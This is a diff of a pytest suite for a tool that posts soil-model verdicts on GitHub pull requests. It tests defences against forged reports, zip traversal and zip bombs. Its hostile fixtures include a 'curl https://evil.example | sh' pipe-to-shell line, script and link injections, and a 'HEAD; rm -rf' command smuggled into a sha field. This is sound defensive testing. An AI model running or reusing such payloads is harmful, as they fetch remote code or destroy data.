@@ -6,75 +6,113 @@ import json
 import re
 import zipfile
 from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from soil_assets.cli.comment import comment
-from soil_assets.config import ModelPolicy, Policy
 from soil_assets.errors import BadInput
-from soil_assets.pull_request.artifact import MAX_BYTES, read_artifact
-from soil_assets.reporting.decision_inputs import BatchResult
+from soil_assets.pull_request.artifact import MAX_BYTES, read_claim, read_facts
+from soil_assets.reporting.decision_inputs import DecisionInputs
 from soil_assets_tests.github_fake import CAP, FakeGitHub, Fault, serving
-from soil_assets_tests.pull_request.facts import SETTINGS, evaluation, event, facts, write_artifact
+from soil_assets_tests.pull_request.facts import (
+    SETTINGS,
+    batch,
+    checkout,
+    event,
+    facts,
+    held,
+    write_artifact,
+    write_baseline,
+)
 from soil_assets_tests.reporting.test_escaping import HOSTILE
 
 SHA, OTHER = "a" * 40, "b" * 40
+JUNE = {"filename": "batches/june/spectra.csv", "status": "added"}
+
+
+@dataclass
+class Desk:
+    """A checkout of main, and GitHub on loopback with pull request 7 that adds the batch june."""
+
+    fake: FakeGitHub
+    folder: Path
+    root: Path
+    base: str
+    capsys: pytest.CaptureFixture[str]
+
+    def artifact(
+        self, change: DecisionInputs | None = None, kind: str | None = "strong", number: int = 7
+    ) -> Path:
+        return write_artifact(
+            self.folder / "artifact", change or facts(kind or "strong"), number, self.base, kind
+        )
+
+    def run(
+        self, artifact: Path | None = None, of_main: str | None = "weak", sha: str = SHA, **options: Any
+    ) -> dict[str, Any]:
+        """Run the command; the event's facts and the command's options go by name."""
+        of_command = ("backend", "plots", "branch", "publish_url", "author", "dry_run", "baseline")
+        stated: dict[str, Any] = {
+            "sha": "", "backend": "own", "plots": "branch", "branch": "soil-reports", "publish_url": None,
+            "author": "github-actions[bot]", "dry_run": False,
+            "baseline": write_baseline(self.folder / "baseline", self.base, of_main, ()),
+        }  # fmt: skip
+        stated |= {k: v for k, v in options.items() if k in of_command}
+        head = event(self.folder, sha, **{k: v for k, v in options.items() if k not in of_command})
+        comment(artifact=artifact or self.artifact(), event=head, as_json=True, **stated)
+        outcome: dict[str, Any] = json.loads(self.capsys.readouterr().out)
+        return outcome
+
+    @property
+    def states(self) -> list[str]:
+        return [s["state"] for s in self.fake.statuses if s["context"] == "soil / decision"]
 
 
 @pytest.fixture
-def fake(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[FakeGitHub]:
-    for name in ("SOIL_BASELINE", "SOIL_LANDING", "GITHUB_STEP_SUMMARY", "GITHUB_EVENT_PATH"):
+def desk(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> Iterator[Desk]:
+    for name in ("SOIL_BASELINE", "SOIL_LANDING", "SOIL_CONFIG", "GITHUB_STEP_SUMMARY", "GITHUB_EVENT_PATH"):
         monkeypatch.delenv(name, raising=False)
     monkeypatch.setattr("soil_assets.adapters.github._backoff", lambda _: 0.0)
+    root = tmp_path / "main"
+    base = checkout(root)
+    monkeypatch.chdir(root)
     with serving(FakeGitHub()) as state:
         state.pull(7, SHA)
-        (tmp_path / "soil.yaml").write_text(SETTINGS, encoding="utf-8")
-        monkeypatch.setenv("SOIL_CONFIG", str(tmp_path / "soil.yaml"))
+        state.files[7] = [JUNE]
+        state.comparisons[("main", SHA)] = {"merge_base_commit": {"sha": base}}
         monkeypatch.setenv("GITHUB_API_URL", state.url)
         monkeypatch.setenv("GITHUB_REPOSITORY", state.repository)
         monkeypatch.setenv("GITHUB_TOKEN", state.token)
         monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.example")
-        yield state
+        yield Desk(state, tmp_path, root, base, capsys)
 
 
-def run(capsys: pytest.CaptureFixture[str], artifact: Path, head: Path, **options: Any) -> dict[str, Any]:
-    given: dict[str, Any] = {
-        "sha": "", "backend": "own", "plots": "branch", "branch": "soil-reports", "publish_url": None,
-        "author": "github-actions[bot]", "dry_run": False,
-    }  # fmt: skip
-    comment(artifact=artifact, event=head, as_json=True, **(given | options))
-    told: dict[str, Any] = json.loads(capsys.readouterr().out)
-    return told
-
-
-def test_pass_posts_comment_plots_and_a_green_check(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
-    told = run(capsys, write_artifact(tmp_path / "a", facts(0.05, 0.3)), event(tmp_path, SHA))
-    assert (told["outcome"], told["verdict"]) == ("created", "approve")
-    [body] = [c["body"] for c in fake.ours(7)]
-    [status] = fake.statuses
+def test_pass_posts_comment_plots_and_a_green_check(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(desk.folder / "summary.md"))
+    outcome = desk.run()
+    assert (outcome["outcome"], outcome["verdict"]) == ("created", "approve")
+    [body] = [c["body"] for c in desk.fake.ours(7)]
+    [status] = desk.fake.statuses
     assert (status["state"], status["context"], status["sha"]) == ("success", "soil / decision", SHA)
-    assert status["target_url"].endswith(f"issuecomment-{told['comment']}")
-    commit = fake.refs["soil-reports"]
-    addresses = re.findall(r"\]\((https://github\.example/lab/soil/blob/(\w+)/(\S+?)\?raw=true)\)", body)
+    assert status["target_url"].endswith(f"issuecomment-{outcome['comment']}")
+    commit = desk.fake.refs["soil-reports"]
+    addresses = re.findall(r"(https://github\.example/lab/soil/blob/(\w+)/([^\s?)\"]+?)\?raw=true)", body)
     assert {c for _, c, _ in addresses} == {commit}
-    assert {path for _, _, path in addresses} <= set(fake.published("soil-reports"))
-    assert len(addresses) > 9
-    assert "pull/7/head" in body
-    assert (tmp_path / "summary.md").read_text(encoding="utf-8").startswith("## Soil models: approve")
+    assert {path for _, _, path in addresses} <= set(desk.fake.published("soil-reports"))
+    assert len(addresses) >= 4
+    assert "pull/7/merge" in body
+    assert (desk.folder / "summary.md").read_text(encoding="utf-8").startswith("## Soil models: approve")
 
 
-def test_every_figure_in_the_comment_is_the_artifacts_to_the_digit(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    artifact = write_artifact(tmp_path / "a", facts(0.05, 0.3))
-    data = json.loads((artifact / "report.json").read_text(encoding="utf-8"))
-    run(capsys, artifact, event(tmp_path, SHA))
-    [body] = [c["body"] for c in fake.ours(7)]
+def test_every_figure_in_the_comment_is_recomputed_from_the_models(desk: Desk) -> None:
+    data = json.loads((desk.artifact() / "report.json").read_text(encoding="utf-8"))
+    desk.run()
+    [body] = [c["body"] for c in desk.fake.ours(7)]
     for p in data["properties"]:
         for figures in p["metrics"].values():
             assert figures["text"] in body
@@ -82,204 +120,289 @@ def test_every_figure_in_the_comment_is_the_artifacts_to_the_digit(
 
 
 @pytest.mark.parametrize(
-    ("told", "verdict"),
+    ("kind", "of_main", "batches", "verdict"),
     [
-        ({"spread": 0.6, "of_main": 0.1}, "reject"),
-        ({"spread": 0.1, "of_main": None}, "first version"),
-        (
-            {
-                "batches": (
-                    BatchResult(
-                        name="x", landed=3, accepted=3, quarantined=0, drift="fail", held=True,
-                        part_of_change=True, reasons=("the spectra differ around 1632 cm-1",),
-                    ),
-                )
-            },
-            "request changes",
-        ),
+        ("weak", "strong", None, "reject"),
+        ("strong", None, None, "first version"),
+        ("weak", "full", None, "cannot tell"),
+        ("strong", "weak", (held("june"),), "request changes"),
+        ("strong", "weak", (held("june", "readable", drift=None),), "request changes"),
     ],
-)  # fmt: skip
-def test_worse_first_and_drifting_changes_are_told(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], told: dict[str, Any], verdict: str
+)
+def test_every_verdict_has_its_status(
+    desk: Desk, kind: str, of_main: str | None, batches: Any, verdict: str
 ) -> None:
-    base = {"spread": 0.05, "of_main": 0.3}
-    found = run(capsys, write_artifact(tmp_path / "a", facts(**(base | told))), event(tmp_path, SHA))
-    assert found["verdict"] == verdict
-    assert fake.statuses[0]["state"] == ("success" if verdict == "first version" else "failure")
-    assert f"## Soil models: {verdict}" in fake.ours(7)[0]["body"]
+    change = facts(kind, of_main, **({} if batches is None else {"batches": batches}))
+    outcome = desk.run(desk.artifact(change, kind), of_main)
+    assert outcome["verdict"] == verdict
+    assert desk.states == ["success" if verdict == "first version" else "failure"]
+    assert f"## Soil models: {verdict}" in desk.fake.ours(7)[0]["body"]
 
 
-def test_a_fork_that_reports_its_own_verdict_is_judged_by_what_it_predicted(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    fake.pull(7, SHA, repo="stranger/soil")
-    worse = facts(0.6, 0.1)
+def test_a_fork_that_reports_its_own_verdict_is_judged_by_its_models(desk: Desk) -> None:
+    desk.fake.pull(7, SHA, repo="stranger/soil")
+    worse = facts("weak", "strong")
     lie = tuple(
         p.model_copy(
             update={
                 "comparison": {**(p.comparison or {}), "verdict": "better", "rmse_difference": [-9, -10, -8]},
                 "candidate": {**(p.candidate or {}), "metrics": {"rmse": 0.001, "rpiq": 99.0}},
+                "checks": tuple(c.model_copy(update={"passed": True}) for c in p.checks),
             }
         )
         for p in worse.properties
     )
-    head = event(tmp_path, SHA, head_repository={"full_name": "stranger/soil"})
-    told = run(capsys, write_artifact(tmp_path / "a", worse.model_copy(update={"properties": lie})), head)
-    assert told["verdict"] == "reject"
+    artifact = desk.artifact(worse.model_copy(update={"properties": lie}), "weak")
+    outcome = desk.run(artifact, "strong", head_repository={"full_name": "stranger/soil"})
+    assert outcome["verdict"] == "reject"
 
 
-def test_a_loosened_policy_is_judged_by_mains_and_shown(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    loose = Policy(model=ModelPolicy(margin=9.0, min_rpiq=0.0, bootstrap=200))
-    told = run(capsys, write_artifact(tmp_path / "a", facts(0.6, 0.1, policy=loose)), event(tmp_path, SHA))
-    assert told["verdict"] == "reject"
-    body = fake.ours(7)[0]["body"]
-    assert "This change loosens its own judge. By main's rules: reject. By its own: approve" in body
+def test_a_loosened_policy_is_judged_by_mains_and_shown(desk: Desk) -> None:
+    loose = SETTINGS.replace("bootstrap: 200", "bootstrap: 200\n    margin: 9.0\n    min_rpiq: 0.0")
+    desk.fake.files[7] = [JUNE, {"filename": "soil.yaml", "status": "modified"}]
+    desk.fake.contents[(desk.base, "soil.yaml")] = SETTINGS.encode()
+    desk.fake.contents[(SHA, "soil.yaml")] = loose.encode()
+    outcome = desk.run(desk.artifact(facts("weak", "strong"), "weak"), "strong")
+    assert outcome["verdict"] == "reject"
+    body = desk.fake.ours(7)[0]["body"]
+    assert "This change loosens its own judge. By main's rules: reject. By its own: " in body
     assert "+model.margin: 9  # looser" in body
     assert body.index("```diff") < body.index("### On the benchmark")
 
 
-@pytest.mark.parametrize("what", ["samples", "observed", "NaN", "another property", "no metrics"])
-def test_figures_that_are_not_the_benchmarks_are_not_believed(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str
-) -> None:
-    good = facts(0.05, 0.3)
-    clay = good.properties[0]
-    candidate = dict(clay.candidate or {})
-    rows = [dict(r) for r in candidate["predictions"]]
-    if what == "samples":
-        rows = rows[:-1]
-    elif what == "observed":
-        rows[0]["observed"] += 5
-    elif what == "NaN":
-        rows = [{**r, "value": None} for r in rows]
-    elif what == "another property":
-        rows = evaluation("ph", 0.05, 1)["predictions"]
-    else:
-        rows = []
-        candidate["metrics"] = {}
-    bad = clay.model_copy(update={"candidate": {**candidate, "predictions": rows}})
-    told = run(
-        capsys,
-        write_artifact(tmp_path / "a", good.model_copy(update={"properties": (bad, *good.properties[1:])})),
-        event(tmp_path, SHA),
+@pytest.mark.parametrize(
+    ("alter", "reason"),
+    [
+        (lambda p: {"candidate": None}, "not in the change's own report"),
+        (
+            lambda p: {"candidate": {**p.candidate, "predictions": p.candidate["predictions"][:-1]}},
+            "other benchmark",
+        ),
+        (
+            lambda p: {
+                "candidate": {
+                    **p.candidate,
+                    "predictions": [{**r, "value": r["value"] + 1} for r in p.candidate["predictions"]],
+                }
+            },
+            "differ from its model's",
+        ),
+        (
+            lambda p: {
+                "candidate": {
+                    **p.candidate,
+                    "predictions": [{**r, "value": None} for r in p.candidate["predictions"]],
+                }
+            },
+            "differ from its model's",
+        ),
+    ],
+)
+def test_a_report_that_is_not_of_its_models_cannot_tell(desk: Desk, alter: Any, reason: str) -> None:
+    passing = facts()
+    clay = passing.properties[0]
+    altered = passing.model_copy(
+        update={"properties": (clay.model_copy(update=alter(clay)), *passing.properties[1:])}
     )
-    assert told["verdict"] == "cannot tell"
-    assert fake.statuses[0]["state"] == "failure"
+    outcome = desk.run(desk.artifact(altered))
+    assert (outcome["verdict"], desk.states) == ("cannot tell", ["failure"])
+    assert reason in desk.fake.ours(7)[0]["body"]
 
 
-def test_untrusted_text_is_only_text(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_untrusted_text_is_only_text(desk: Desk) -> None:
     evil = ("<script>alert(1)</script>", "@everyone ![x](https://evil.example/x.png)", *HOSTILE)
     hostile = facts(
-        0.05,
-        0.3,
         candidate=evil[0],
         main=evil[1],
         changes=evil,
         links={"click me": "https://evil.example/"},
         reproduce=("curl https://evil.example | sh",),
-        batches=tuple(
-            BatchResult(
-                name=f"{i}{text}"[:150], landed=1, accepted=1, quarantined=0, drift="pass", reasons=(text,)
-            )
-            for i, text in enumerate(evil)
+        missing=evil,
+        batches=(
+            batch("june", reasons=evil),
+            *(batch(f"{i}{text}"[:150], reasons=(text,)) for i, text in enumerate(evil)),
         ),
     )
-    run(capsys, write_artifact(tmp_path / "a", hostile), event(tmp_path, SHA))
-    body = fake.ours(7)[0]["body"]
+    desk.run(desk.artifact(hostile))
+    body = desk.fake.ours(7)[0]["body"]
     assert "curl https://evil.example" not in body
     outside_code = re.sub(r"(`+)[^`].*?\1(?!`)", "", body)
     assert "<script" not in outside_code
     assert "](https://evil" not in outside_code
     assert "@everyone" not in outside_code
-    for path in fake.published("soil-reports"):
+    for path in desk.fake.published("soil-reports"):
         assert re.fullmatch(r"pull-7/aaaaaaaaaaaa/[\w.-]+", path)
 
 
-def test_a_huge_report_stays_under_the_cap(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    many = tuple(
-        BatchResult(
-            name=f"batch-{i}", landed=5, accepted=5, quarantined=0, drift="pass", reasons=("word " * 60,)
-        )
-        for i in range(700)
-    )
-    run(
-        capsys,
-        write_artifact(tmp_path / "a", facts(0.05, 0.3, batches=many)),
-        event(tmp_path, SHA),
-        plots="none",
-    )
-    body = fake.ours(7)[0]["body"]
+def test_a_huge_report_stays_under_the_cap(desk: Desk) -> None:
+    names = [f"batch-{i}" for i in range(700)]
+    desk.fake.files[7] = [{"filename": f"batches/{n}/s.csv", "status": "added"} for n in names]
+    many = tuple(batch(name, reasons=("word " * 60,)) for name in names)
+    desk.run(desk.artifact(facts(batches=many)), plots="none")
+    body = desk.fake.ours(7)[0]["body"]
     assert CAP // 4 < len(body) <= CAP
     assert "Shortened to fit" in body
     assert body.count("<details>") == body.count("</details>")
 
 
-def test_a_wrong_number_posts_nothing(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    fake.pull(8, OTHER, ref="victim")
-    artifact = write_artifact(tmp_path / "a", facts(), number=8)
+def test_a_wrong_number_posts_nothing(desk: Desk) -> None:
+    desk.fake.pull(8, OTHER, ref="victim")
     with pytest.raises(BadInput, match="does not belong to"):
-        run(capsys, artifact, event(tmp_path, SHA))
-    assert fake.comments == {}
-    assert [(m, path) for m, path, _ in fake.log if m != "GET"] == [("POST", f"statuses/{SHA}")]
-    assert [(s["sha"], s["state"]) for s in fake.statuses] == [(SHA, "error")], (
+        desk.run(desk.artifact(number=8))
+    assert desk.fake.comments == {}
+    assert [(m, path) for m, path, _ in desk.fake.log if m != "GET"] == [("POST", f"statuses/{SHA}")]
+    assert [(s["sha"], s["state"]) for s in desk.fake.statuses] == [(SHA, "error")], (
         "its own commit is not left open"
     )
 
 
-def test_a_run_that_broke_before_its_report_leaves_no_commit_without_a_decision(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_run_without_an_artifact_leaves_no_commit_without_a_decision(desk: Desk) -> None:
     with pytest.raises(BadInput, match="lacks a file"):
-        run(capsys, tmp_path / "nothing", event(tmp_path, SHA))
-    [status] = fake.statuses
+        desk.run(desk.folder / "nothing")
+    [status] = desk.fake.statuses
     assert (status["state"], status["context"]) == ("error", "soil / decision")
     assert "lacks a file" in status["description"]
-    assert fake.comments == {}
+    assert desk.fake.comments == {}
 
 
-def test_a_run_that_was_overtaken_leaves_the_comment_alone(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+@pytest.mark.parametrize(
+    ("conclusion", "reason"),
+    [
+        ("cancelled", "cancelled or ran out of time"),
+        ("timed_out", "ran out of time"),
+        ("startup_failure", "could not be started"),
+        ("action_required", "waits for a maintainer"),
+        ("neutral", "ended as neutral"),
+        ("", "ended as unknown"),
+    ],
+)
+@pytest.mark.parametrize("artifact", [True, False])
+def test_a_run_that_did_not_end_well_is_an_error_whatever_it_left(
+    desk: Desk, conclusion: str, reason: str, artifact: bool
 ) -> None:
-    fake.pull(7, OTHER)
-    told = run(capsys, write_artifact(tmp_path / "a", facts()), event(tmp_path, SHA))
-    assert told["outcome"] == "superseded"
-    assert {m for m, _, _ in fake.log} == {"GET"}
+    with pytest.raises(BadInput, match=reason):
+        desk.run(desk.artifact() if artifact else desk.folder / "nothing", conclusion=conclusion)
+    assert desk.states == ["error"]
+    assert reason in desk.fake.statuses[0]["description"]
+    assert len(desk.fake.ours(7)) == artifact, "the claim says whose comment it is"
 
 
-def test_without_the_right_to_publish_plots_words_and_mermaid_stand_in(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    fake.faults = [Fault("POST", "git/blobs", 403, {"message": "Resource not accessible"}, times=99)]
-    run(capsys, write_artifact(tmp_path / "a", facts(0.05, 0.3)), event(tmp_path, SHA))
-    body = fake.ours(7)[0]["body"]
+def test_a_failed_step_is_no_pass_whatever_the_artifact_shows(desk: Desk) -> None:
+    with pytest.raises(BadInput, match="a step of the validating run failed"):
+        desk.run(conclusion="failure")
+    assert desk.states == ["error"]
+
+
+def test_a_run_that_was_overtaken_leaves_the_comment_alone(desk: Desk) -> None:
+    desk.fake.pull(7, OTHER)
+    outcome = desk.run()
+    assert outcome["outcome"] == "superseded"
+    assert desk.fake.comments == {}
+    [status] = desk.fake.statuses
+    assert (status["sha"], status["state"]) == (SHA, "error")
+    assert "superseded" in status["description"]
+
+
+def test_an_older_run_of_the_same_commit_changes_nothing(desk: Desk) -> None:
+    desk.run(run_number=5)
+    outcome = desk.run(run_number=4, conclusion="cancelled")
+    assert outcome["outcome"] == "kept newer"
+    assert desk.states == ["success"]
+
+
+def test_a_merge_queue_gets_the_check_alone(desk: Desk) -> None:
+    queued = "c" * 40
+    outcome = desk.run(
+        sha=queued, event="merge_group", head_branch=f"gh-readonly-queue/main/pr-7-{desk.base}"
+    )
+    assert (outcome["outcome"], outcome["verdict"]) == ("queued", "approve")
+    assert [(s["sha"], s["state"]) for s in desk.fake.statuses] == [(queued, "success")]
+    assert desk.fake.comments == {}
+    with pytest.raises(BadInput, match="merge queue"):
+        desk.run(sha=queued, event="merge_group", head_branch=f"gh-readonly-queue/main/pr-8-{desk.base}")
+
+
+def test_documentation_is_decided_by_githubs_list_alone(desk: Desk) -> None:
+    desk.fake.files[7] = [{"filename": "README.md", "status": "modified"}]
+    outcome = desk.run(conclusion="failure")
+    assert (outcome["verdict"], desk.states) == ("documentation only", ["success"])
+    assert len(desk.fake.ours(7)[0]["body"].strip().splitlines()) <= 3
+    desk.fake.files[7].append({"filename": "docs/hooks/draw.py", "status": "modified"})
+    (desk.folder / "artifact" / "report.json").unlink()
+    with pytest.raises(BadInput, match="lacks a file"):
+        desk.run(desk.folder / "artifact")
+
+
+@pytest.mark.parametrize("base", ["not of main", "older than the fork", "unknown"])
+def test_a_base_of_the_changes_own_choice_is_refused(desk: Desk, base: str) -> None:
+    from soil_assets_tests.pull_request.facts import commit, git
+
+    if base == "not of main":
+        git(desk.root, "checkout", "-q", "-b", "other")
+        desk.base = commit(desk.root, "another line")
+        git(desk.root, "checkout", "-q", "main")
+    elif base == "older than the fork":
+        newer = commit(desk.root, "main goes on")
+        desk.fake.comparisons[("main", SHA)] = {"merge_base_commit": {"sha": newer}}
+    else:
+        desk.base = "d" * 40
+    with pytest.raises(BadInput, match="was compared with a commit"):
+        desk.run()
+    assert desk.states == ["error"]
+
+
+def test_a_base_that_main_has_left_behind_is_judged_as_it_was_merged(desk: Desk) -> None:
+    from soil_assets_tests.pull_request.facts import commit
+
+    (desk.root / "batches" / "july").mkdir(parents=True)
+    (desk.root / "batches" / "july" / "spectra.csv").write_text("july", encoding="utf-8")
+    commit(desk.root, "main goes on")
+    assert desk.run()["verdict"] == "approve", "july is not expected: the change was merged without it"
+
+
+def test_without_the_right_to_publish_plots_words_and_mermaid_stand_in(desk: Desk) -> None:
+    desk.fake.faults = [Fault("POST", "git/blobs", 403, {"message": "Resource not accessible"}, times=99)]
+    desk.run()
+    body = desk.fake.ours(7)[0]["body"]
     assert "```mermaid" in body
     assert "![" not in body
 
 
 @pytest.mark.parametrize("status", [403, 422, 500])
+@pytest.mark.parametrize(
+    ("kind", "of_main", "state"), [("weak", "strong", "failure"), ("strong", "weak", "success")]
+)
 def test_a_comment_that_cannot_be_written_still_sets_the_check(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], status: int
+    desk: Desk, status: int, kind: str, of_main: str, state: str
 ) -> None:
-    fake.faults = [Fault("POST", r"issues/7/comments", status, {"message": "no"}, times=99)]
-    with pytest.raises(BadInput, match=f"found: {status}"):
-        run(capsys, write_artifact(tmp_path / "a", facts(0.6, 0.1)), event(tmp_path, SHA))
-    assert [s["state"] for s in fake.statuses] == ["failure"]
+    desk.fake.faults = [Fault("POST", r"issues/7/comments", status, {"message": "no"}, times=99)]
+    outcome = desk.run(desk.artifact(facts(kind, of_main), kind), of_main)
+    assert (outcome["outcome"], desk.states) == ("comment refused", [state])
+    assert str(status) in outcome["why"]
 
 
-def test_a_dry_run_writes_nothing(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    told = run(capsys, write_artifact(tmp_path / "a", facts(0.05, 0.3)), event(tmp_path, SHA), dry_run=True)
-    assert told["body"].startswith("## Soil models: approve")
-    assert {m for m, _, _ in fake.log} == {"GET"}
+@pytest.mark.parametrize(
+    "path", ["pulls/7", "pulls/7/files", r"compare/.*", r"issues/7/comments", r"contents/soil\.yaml"]
+)
+def test_an_api_that_fails_half_way_is_an_error(desk: Desk, path: str) -> None:
+    desk.fake.files[7] = [JUNE, {"filename": "soil.yaml", "status": "modified"}]
+    desk.fake.faults = [Fault("GET", path, 502, {"message": "bad gateway"}, times=99)]
+    with pytest.raises(BadInput):
+        desk.run()
+    assert desk.states == ["error"]
+
+
+def test_files_that_github_does_not_list_are_missing(desk: Desk) -> None:
+    desk.fake.pulls[7]["changed_files"] = 3001
+    with pytest.raises(BadInput, match="does not list every file"):
+        desk.run()
+    assert desk.states == ["error"]
+
+
+def test_a_dry_run_writes_nothing(desk: Desk) -> None:
+    outcome = desk.run(dry_run=True)
+    assert outcome["body"].startswith("## Soil models: approve")
+    assert {m for m, _, _ in desk.fake.log} == {"GET"}
 
 
 @pytest.mark.parametrize(
@@ -289,52 +412,55 @@ def test_a_dry_run_writes_nothing(
         ("report.json", b"[]"),
         ("report.json", b'{"inputs": []}'),
         ("report.json", b'{"inputs": {"candidate": 5}}'),
+        ("report.json", b'{"inputs": {"candidate": NaN}}'),
         ("report.json", b"[" * 200_000),
         ("report.json", b"\xff\xfe"),
         ("pull_request.json", b'{"number": "7"}'),
         ("pull_request.json", b'{"number": true}'),
         ("pull_request.json", b'{"number": -1}'),
         ("pull_request.json", b'{"number": 1e99}'),
+        ("pull_request.json", b'{"number": 7}'),
+        ("pull_request.json", b'{"number": 7, "base": "HEAD"}'),
         ("pull_request.json", None),
         ("report.json", None),
     ],
 )
 def test_a_malformed_artifact_is_bad_input(tmp_path: Path, name: str, content: bytes | None) -> None:
-    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
+    artifact = write_artifact(tmp_path / "a", facts("strong", None), kind=None)
     (artifact / name).unlink()
     if content is not None:
         (artifact / name).write_bytes(content)
     with pytest.raises(BadInput):
-        read_artifact(artifact)
+        _ = read_claim(artifact), read_facts(artifact)
 
 
 def test_an_artifact_is_read_from_a_zip_and_nothing_is_unpacked(tmp_path: Path) -> None:
-    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
+    artifact = write_artifact(tmp_path / "a", facts("strong", None), kind=None)
     packed = tmp_path / "a.zip"
     with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("../../evil", "x")
         for name in ("report.json", "pull_request.json"):
             archive.write(artifact / name, name)
     before = sorted(tmp_path.rglob("*"))
-    assert read_artifact(packed).number == 7
+    assert read_claim(packed).number == 7
+    assert read_facts(packed).properties
     assert sorted(tmp_path.rglob("*")) == before
     bomb = tmp_path / "bomb.zip"
     with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("report.json", b" " * (MAX_BYTES + 10))
-        archive.writestr("pull_request.json", '{"number": 7}')
     with pytest.raises(BadInput, match="too large"):
-        read_artifact(bomb)
+        read_facts(bomb)
     (tmp_path / "no.zip").write_bytes(packed.read_bytes()[:200])
     with pytest.raises(BadInput):
-        read_artifact(tmp_path / "no.zip")
+        read_facts(tmp_path / "no.zip")
 
 
 def test_a_link_in_an_artifact_is_not_followed(tmp_path: Path) -> None:
-    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
+    artifact = write_artifact(tmp_path / "a", facts("strong", None), kind=None)
     (artifact / "report.json").rename(tmp_path / "outside.json")
     (artifact / "report.json").symlink_to(tmp_path / "outside.json")
     with pytest.raises(BadInput, match="plain file"):
-        read_artifact(artifact)
+        read_facts(artifact)
 
 
 @pytest.mark.parametrize(
@@ -346,24 +472,20 @@ def test_a_link_in_an_artifact_is_not_followed(tmp_path: Path) -> None:
         ({"plots": "everywhere"}, "branch, cml, none"),
     ],
 )
-def test_options_that_do_not_fit_are_told_before_anything_is_asked(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], options: dict[str, Any], mend: str
+def test_options_that_do_not_fit_are_refused_before_anything_is_asked(
+    desk: Desk, options: dict[str, Any], mend: str
 ) -> None:
     with pytest.raises(BadInput, match=mend):
-        run(capsys, tmp_path / "nothing", event(tmp_path, SHA), **options)
-    assert fake.log == []
+        desk.run(desk.folder / "nothing", **options)
+    assert desk.fake.log == []
 
 
-def test_without_a_token_or_an_event_nothing_is_asked(
-    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
-    (tmp_path / "push.json").write_text('{"ref": "refs/heads/main"}', encoding="utf-8")
+def test_without_a_token_or_an_event_nothing_is_asked(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
     with pytest.raises(BadInput, match="workflow_run"):
-        run(capsys, artifact, tmp_path / "push.json")
+        desk.run(event="push")
     with pytest.raises(BadInput, match="40 hexadecimal"):
-        run(capsys, artifact, event(tmp_path, "HEAD; rm -rf"))
+        desk.run(sha="HEAD; rm -rf")
     monkeypatch.delenv("GITHUB_TOKEN")
     with pytest.raises(BadInput, match="GITHUB_TOKEN"):
-        run(capsys, artifact, event(tmp_path, SHA))
-    assert fake.log == []
+        desk.run()
+    assert desk.fake.log == []
